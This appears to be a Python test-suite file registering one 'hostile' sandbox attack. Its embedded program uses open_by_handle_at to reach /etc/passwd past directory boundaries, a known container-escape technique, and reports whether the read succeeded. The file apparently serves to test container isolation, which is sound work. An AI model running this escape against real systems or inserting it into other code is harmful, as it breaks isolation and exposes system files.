"""Opens a file by its number in the file system, past every folder on the way to it: so programs left containers."""

from hostile import Attack, Tier

PROGRAM = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("body", ctypes.c_ubyte * 128)]
def f(x):
    handle, mount = Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/etc/passwd", ctypes.byref(handle), ctypes.byref(mount), 0): return ctypes.get_errno()
    here = os.open("/", os.O_RDONLY)
    found = libc.open_by_handle_at(here, ctypes.byref(handle), os.O_RDONLY)
    if found < 0: return ctypes.get_errno()
    return 2 if b"root" in os.read(found, 1000) else 0
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, needs_root=True)
